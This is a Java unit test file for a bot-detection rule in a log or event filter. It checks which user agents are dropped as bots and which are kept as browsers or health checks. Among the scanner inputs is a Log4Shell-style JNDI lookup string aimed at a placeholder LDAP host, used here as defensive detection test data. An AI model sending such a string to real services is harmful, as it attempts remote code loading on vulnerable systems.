// SPDX-License-Identifier: Apache-2.0
package dev.sluice.engine.config;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;
import static org.junit.jupiter.api.Assumptions.assumeTrue;

import dev.sluice.model.EventView;
import dev.sluice.model.Outcome;
import dev.sluice.rules.Condition;
import dev.sluice.rules.Filter;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.Comparator;
import java.util.HashSet;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import java.util.Set;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/**
 * Tests the default rule {@code bots}, one class of user agents at a time. How much it finds on
 * lists by others is in {@code docs/rules.md}; the user agents here were made for this test.
 */
class DefaultBotsTest {

  private static final Filter FILTER =
      Filter.of(RulesFile.parse("rules.yaml", RulesFile.defaultRules()));

  private static final Path REAL_LOG =
      Path.of("..", "..", "shared", "data", "semicomplete-access.log");

  /** The last quoted field of a line in Combined Log Format. */
  private static final Pattern AGENT = Pattern.compile("\"([^\"]*)\"\\s*$");

  private static String dropping(String userAgent) {
    EventView view = new EventView();
    String event =
        Json.write(
            Map.of(
                "event_time",
                "2026-01-01T00:00:00Z",
                "host",
                "shop.example",
                "url",
                "/",
                "user_agent",
                userAgent));
    assertEquals(Optional.empty(), view.read(event.getBytes(StandardCharsets.UTF_8)));
    return FILTER.drops(view).map(Outcome.Filtered::rule).orElse("none");
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "axios/1.7.9",
        "okhttp/4.12.0",
        "node-fetch/1.0",
        "undici",
        "python-httpx/0.27.0",
        "GuzzleHttp/7",
        "Go-http-client/2.0",
        "python-requests/2.32.3",
        "Python/3.12 aiohttp/3.9.5",
        "Java/17.0.11",
        "Java-http-client/21.0.3",
        "Apache-HttpClient/5.3 (Java/17)",
        "curl/8.9.1",
        "Wget/1.24.5",
        "libwww-perl/6.77",
        "LWP::Simple/6.00",
        "reqwest/0.12.5",
        "Faraday v2.9.0",
        "PHP/8.3.0",
        "PostmanRuntime/7.39.0",
        "Mozilla/5.0 (Windows NT; Windows NT 10.0; en-US) WindowsPowerShell/5.1.19041.1"
      })
  void librariesAndToolsAreDropped(String userAgent) {
    assertEquals("bots", dropping(userAgent));
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; ChatGPT-User/1.0)",
        "OAI-SearchBot/1.0",
        "Mozilla/5.0 (compatible; GPTBot/1.2)",
        "Mozilla/5.0 (compatible; Claude-User/1.0)",
        "ClaudeBot/1.0",
        "Mozilla/5.0 (compatible; Perplexity-User/1.0)",
        "MistralAI-User/1.0",
        "Mozilla/5.0 (compatible; Bytespider)",
        "cohere-ai"
      })
  void fetchersOfAssistantsAreDropped(String userAgent) {
    assertEquals("bots", dropping(userAgent));
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "Mozilla/5.0 (compatible; Google-InspectionTool/1.0)",
        "GoogleOther",
        "Google-Extended",
        "FeedFetcher-Google",
        "Mediapartners-Google",
        "APIs-Google",
        "Mozilla/5.0 (compatible; Google-Site-Verification/1.0)",
        "meta-externalagent/1.1",
        "meta-externalfetcher/1.1",
        "facebookexternalhit/1.1",
        "facebookcatalog/1.0"
      })
  void googlesAndMetasAgentsAreDropped(String userAgent) {
    assertEquals("bots", dropping(userAgent));
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "sqlmap/1.8",
        "Mozilla/5.0 (compatible; Nmap Scripting Engine)",
        "Nuclei - Open-source project",
        "masscan/1.3",
        "Mozilla/5.0 zgrab/0.x",
        "Mozilla/5.00 (Nikto/2.5.0)",
        "WPScan v3.8",
        "Expanse, a company that looks around",
        "t('${jndi:ldap://203.0.113.9/a}')"
      })
  void scannersAreDropped(String userAgent) {
    assertEquals("bots", dropping(userAgent));
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "check_http/v2.4.0 (monitoring-plugins 2.4.0)",
        "Datadog/Synthetics",
        "Prometheus/2.53.0",
        "Blackbox Exporter/0.25.0",
        "UptimeRobot/2.0",
        "Pingdom.com_bot_version_1.4",
        "StatusCake",
        "Site24x7",
        "Zabbix",
        "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 Chrome/126.0.0.0 Safari/537.36"
            + " Chrome-Lighthouse"
      })
  void monitorsAndAuditsAreDropped(String userAgent) {
    assertEquals("bots", dropping(userAgent));
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "Feedly/1.0",
        "Inoreader/1.0",
        "NewsBlur Feed Finder",
        "Tiny Tiny RSS/24.01",
        "FreshRSS/1.24.0",
        "Miniflux/2.1.3",
        "NetNewsWire (RSS Reader)",
        "SimplePie/1.8"
      })
  void feedReadersAreDropped(String userAgent) {
    assertEquals("bots", dropping(userAgent));
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "NewlyInventedCrawler 0.1",
        "acme-fetcher/2",
        "ours (https://ours.example/what-we-do)",
        "User-Agent: Mozilla/5.0",
        "WhatsApp/2.24.13.77",
        "SkypeUriPreview Preview/0.5",
        "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 HeadlessChrome/126.0.0.0",
        "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 Chrome/126.0 Playwright/1.45"
      })
  void whatSaysSoInOtherWordsIsDroppedToo(String userAgent) {
    assertEquals("bots", dropping(userAgent));
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        // On the desktop
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:128.0) Gecko/20100101 Firefox/128.0",
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko)"
            + " Chrome/126.0.0.0 Safari/537.36 Edg/126.0.2592.87",
        "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko)"
            + " Version/17.5 Safari/605.1.15",
        "Mozilla/5.0 (X11; CrOS x86_64 14541.0.0) AppleWebKit/537.36 (KHTML, like Gecko)"
            + " Chrome/126.0.0.0 Safari/537.36",
        "Mozilla/5.0 (Windows NT 10.0; WOW64; Trident/7.0; rv:11.0) like Gecko",
        "Mozilla/4.0 (compatible; MSIE 8.0; Windows NT 6.1; .NET CLR 3.5.30729)",
        "Opera/9.80 (Windows NT 6.1; U; de) Presto/2.12.388 Version/12.18",
        "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko)"
            + " Teams/1.5 Chrome/96.0 Electron/16.0 Safari/537.36",
        "Lynx/2.9.0dev.12 libwww-FM/2.14 SSL-MM/1.4.1",
        // On phones and televisions, inside apps, and by apps
        "Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko)"
            + " Chrome/126.0.0.0 Mobile Safari/537.36",
        "Mozilla/5.0 (Linux; Android 14; SM-S921B) AppleWebKit/537.36 (KHTML, like Gecko)"
            + " SamsungBrowser/25.0 Chrome/121.0.0.0 Mobile Safari/537.36",
        "Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like"
            + " Gecko) Version/17.5 Mobile/15E148 Safari/604.1",
        "Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like"
            + " Gecko) Mobile/15E148 [FBAN/FBIOS;FBAV/470.0.0.40.108;FBDV/iPhone14,5]",
        "Mozilla/5.0 (Linux; Android 13; SM-A546E; wv) AppleWebKit/537.36 (KHTML, like Gecko)"
            + " Version/4.0 Chrome/126.0.0.0 Mobile Safari/537.36 Instagram 338.0.0.29.118 Android",
        "Mozilla/5.0 (Linux; Android 13; SM-A546E; wv) AppleWebKit/537.36 (KHTML, like Gecko)"
            + " Version/4.0 Chrome/126.0.0.0 Mobile Safari/537.36 CamScanner/6.66",
        "Mozilla/5.0 (iPad; CPU OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko)"
            + " Mobile/15E148 Flipboard/4.3.30",
        "Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like"
            + " Gecko) Mobile/15E148 MicroMessenger/8.0.49 NetType/WIFI Language/zh_CN",
        "Opera/9.80 (J2ME/MIDP; Opera Mini/7.1.32052/34.1244; U; en) Presto/2.8.119 Version/11.10",
        "Nokia200/2.0 (11.81) Profile/MIDP-2.1 Configuration/CLDC-1.1 UCWEB/2.0 (Java; U; en)",
        "Mozilla/5.0 (SMART-TV; Linux; Tizen 7.0) AppleWebKit/537.36 (KHTML, like Gecko) TV",
        "fuboTV/4.75 (Linux; Android 9; AFTT) FuboPlayer/1.34",
        "ShopApp/4.2 CFNetwork/1494.0.7 Darwin/23.4.0",
        "Dalvik/2.1.0 (Linux; U; Android 14; Pixel 8 Build/AP2A.240705.005)",
        "AppleCoreMedia/1.0.0.21F90 (iPhone; U; CPU OS 17_5 like Mac OS X; en_us)",
        // Phones whose maker has "bot" in its name
        "Mozilla/5.0 (Linux; Android 11; CUBOT X30) AppleWebKit/537.36 (KHTML, like Gecko)"
            + " Chrome/126.0.0.0 Mobile Safari/537.36",
        "Mozilla/5.0 (Linux; Android 13; CUBOT_NOTE 50) AppleWebKit/537.36 (KHTML, like Gecko)"
            + " Chrome/126.0.0.0 Mobile Safari/537.36",
        // A browser window inside a Windows program
        "Mozilla/4.0 (compatible; MSIE 7.0; Windows NT 6.0; http://bsalsa.com)",
        ""
      })
  void peopleAreNot(String userAgent) {
    assertEquals("none", dropping(userAgent));
  }

  /** Their user agents name an address or what they are, but they are counted as health checks. */
  @ParameterizedTest
  @ValueSource(
      strings = {
        "kube-probe/1.31",
        "ELB-HealthChecker/2.0",
        "GoogleHC/1.0",
        "Amazon-Route53-Health-Check-Service (ref 7; report http://aws.example/)",
        "Consul Health Check",
        "Envoy/HC",
        "ApplicationHealthService/1.0"
      })
  void healthChecksAreCountedAsSuch(String userAgent) {
    assertEquals("health_checks", dropping(userAgent));
  }

  /** A word that contains another one is redundant, and hides what the rule decides by. */
  @Test
  void noWordIsThereTwice() {
    Condition.All all =
        (Condition.All)
            RulesFile.parse("rules.yaml", RulesFile.defaultRules()).rules().get(0).when();
    List<String> words = ((Condition.Contains) all.conditions().get(0)).words();
    for (String word : words) {
      List<String> within =
          words.stream().filter(other -> !other.equals(word) && word.contains(other)).toList();
      assertEquals(List.of(), within, () -> word + " contains another word");
    }
    assertEquals(words.size(), new HashSet<>(words).size());
  }

  /**
   * A browser is ordinary if its user agent has its system, engine and version, and nothing else.
   */
  @Test
  void ofARealLogNoOrdinaryBrowserIsDropped() throws IOException {
    assumeTrue(Files.exists(REAL_LOG), () -> REAL_LOG + " is missing");
    Pattern ordinary =
        Pattern.compile(
            "Mozilla/5\\.0 \\((Windows NT|Macintosh|X11|iPhone|iPad|Linux)[^()+]*\\)"
                + " (AppleWebKit/[0-9.+]+ \\(KHTML, like Gecko\\)|Gecko/[0-9]+)"
                + "( (Version|Chrome|CriOS|Mobile|Safari|Firefox)/[0-9A-Za-z.]+)+");
    Set<String> dropped = new HashSet<>();
    Set<String> seen = new HashSet<>();
    try (Stream<String> lines = Files.lines(REAL_LOG, StandardCharsets.ISO_8859_1)) {
      lines.forEach(
          line -> {
            Matcher agent = AGENT.matcher(line);
            if (agent.find() && ordinary.matcher(agent.group(1)).matches()) {
              seen.add(agent.group(1));
              if (dropping(agent.group(1)).equals("bots")) {
                dropped.add(agent.group(1));
              }
            }
          });
    }
    assertTrue(seen.size() > 100, () -> "only " + seen.size() + " browsers were recognised");
    assertEquals(List.of(), dropped.stream().sorted(Comparator.naturalOrder()).toList());
  }
}
